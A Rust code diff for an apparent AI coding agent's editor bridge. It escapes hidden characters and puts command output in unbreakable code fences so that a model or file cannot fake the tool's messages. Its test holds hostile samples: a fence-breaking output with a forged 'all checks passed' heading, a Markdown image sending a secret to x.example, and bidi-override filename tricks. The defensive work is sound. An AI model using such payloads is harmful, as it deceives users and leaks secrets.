@@ -4,6 +4,12 @@
 //! edit as a `diff`, a command's output as it arrives, and how it ended; the plan the model
 //! keeps (`update_plan`) as a `plan` update. The events come from the
 //! run's trace, already redacted; this module only translates, and never decides or blocks.
+//!
+//! Every text an editor shows the person — the model's words, a call's title, a command's
+//! output, an error, a permission question — passes [`shown`] (hidden characters as visible
+//! `\u{…}` escapes, as the terminal shows them), and text that is not Bosun's inside a code
+//! block passes [`fenced`], whose fence it cannot close: a model, a file or a plugin cannot make
+//! the editor render words the person takes for Bosun's.
 
 use std::collections::HashMap;
 use std::path::{Path, PathBuf};
@@ -144,7 +150,7 @@ pub fn plan_update(plan: &Plan) -> SessionUpdate {
             .iter()
             .map(|step| {
                 PlanEntry::new(
-                    step.step.clone(),
+                    shown(&step.step),
                     PlanEntryPriority::Medium,
                     match step.status {
                         StepStatus::Pending => PlanEntryStatus::Pending,
@@ -157,28 +163,54 @@ pub fn plan_update(plan: &Plan) -> SessionUpdate {
     ))
 }
 
-/// Text as a tool call's content.
-pub fn text_content(text: impl Into<String>) -> ToolCallContent {
-    ToolCallContent::from(ContentBlock::Text(TextContent::new(text)))
+/// Text as the person sees it in the editor: every hidden character (bidi overrides, zero-width
+/// characters, controls, ESC) as a visible `\u{…}` escape; tabs and newlines kept.
+pub fn shown(text: &str) -> String {
+    bosun_core::hidden::escape_for_terminal(text)
 }
 
-/// A text chunk of the agent's message.
+/// `text` (a command's output, a diff: not Bosun's words) as a Markdown code block the editor
+/// renders as code: the fence is longer than any run of backticks inside, so a line of the text
+/// cannot close it and have the rest rendered as Markdown; hidden characters are [`shown`].
+pub fn fenced(info: &str, text: &str) -> String {
+    let text = shown(text);
+    let mut longest = 0;
+    let mut run = 0;
+    for c in text.chars() {
+        run = if c == '`' { run + 1 } else { 0 };
+        longest = longest.max(run);
+    }
+    let fence = "`".repeat(longest.max(2) + 1);
+    format!("{fence}{info}\n{text}\n{fence}")
+}
+
+/// Text as a tool call's content ([`shown`]).
+pub fn text_content(text: impl Into<String>) -> ToolCallContent {
+    ToolCallContent::from(ContentBlock::Text(TextContent::new(shown(&text.into()))))
+}
+
+/// A command's output as a tool call's content ([`fenced`]).
+pub fn output_content(output: &str) -> ToolCallContent {
+    text_content(fenced("", output))
+}
+
+/// A text chunk of the agent's message ([`shown`]).
 pub fn message_chunk(text: impl Into<String>) -> SessionUpdate {
     SessionUpdate::AgentMessageChunk(ContentChunk::new(ContentBlock::Text(TextContent::new(
-        text,
+        shown(&text.into()),
     ))))
 }
 
-/// A text chunk of the agent's reasoning.
+/// A text chunk of the agent's reasoning ([`shown`]).
 pub fn thought_chunk(text: impl Into<String>) -> SessionUpdate {
     SessionUpdate::AgentThoughtChunk(ContentChunk::new(ContentBlock::Text(TextContent::new(
-        text,
+        shown(&text.into()),
     ))))
 }
 
 /// The announcement of a call of `tool` with `input`, as proposed.
 pub fn proposed(root: &Path, call_id: &str, tool: &str, input: &Value) -> ToolCall {
-    ToolCall::new(call_id.to_owned(), title(tool, input))
+    ToolCall::new(call_id.to_owned(), shown(&title(tool, input)))
         .kind(tool_kind(tool))
         .status(ToolCallStatus::Pending)
         .content(diffs(root, tool, input))
@@ -229,7 +261,7 @@ impl Updates {
     fn content_of(call: &Call) -> Vec<ToolCallContent> {
         let mut content = call.diffs.clone();
         if !call.output.is_empty() {
-            content.push(text_content(format!("```\n{}\n```", call.output)));
+            content.push(output_content(&call.output));
         }
         content
     }
@@ -318,7 +350,7 @@ impl Updates {
                         .collect();
                     if !streams.is_empty() {
                         let mut content = call.diffs.clone();
-                        content.push(text_content(format!("```\n{}\n```", streams.join("\n"))));
+                        content.push(output_content(&streams.join("\n")));
                         fields = fields.content(content);
                     }
                 }
@@ -347,5 +379,47 @@ impl Updates {
 impl Observer for Updates {
     fn observe(&self, envelope: &Envelope) {
         self.handle(&envelope.event);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn text_of(content: &ToolCallContent) -> String {
+        serde_json::to_value(content).unwrap()["content"]["text"]
+            .as_str()
+            .unwrap()
+            .to_owned()
+    }
+
+    /// A command's output (a file it printed, a hostile test's log) that closes its code block
+    /// and writes Markdown, or hides characters, is shown to the person as one code block with
+    /// the characters visible; so is the model's text.
+    #[test]
+    fn a_commands_output_cannot_leave_its_block_or_hide_characters() {
+        let call = Call {
+            diffs: Vec::new(),
+            output: "ok\n```\n## ✅ Bosun: all checks passed\n``````\n![](https://x.example/?k=secret)\u{202e}"
+                .to_owned(),
+        };
+        let content = Updates::content_of(&call);
+        let shown_text = text_of(&content[0]);
+        let lines: Vec<&str> = shown_text.lines().collect();
+        assert_eq!(lines[0], "```````", "{shown_text}");
+        assert_eq!(lines.last(), Some(&"```````"), "{shown_text}");
+        assert!(
+            lines[1..lines.len() - 1]
+                .iter()
+                .all(|l| !l.starts_with("```````")),
+            "{shown_text}"
+        );
+        assert_eq!(bosun_core::find_hidden(&shown_text), None, "{shown_text}");
+        assert!(shown_text.contains("\\u{202e}"), "{shown_text}");
+        let chunk = serde_json::to_value(message_chunk("fine\u{202e}txt.exe")).unwrap();
+        assert_eq!(chunk["content"]["text"], "fine\\u{202e}txt.exe");
+        // Text without hidden characters or backticks passes as it was.
+        assert_eq!(fenced("diff", "+a\n-b"), "```diff\n+a\n-b\n```");
+        assert_eq!(shown("a\tb\nc 👩‍💻"), "a\tb\nc 👩‍💻");
     }
 }
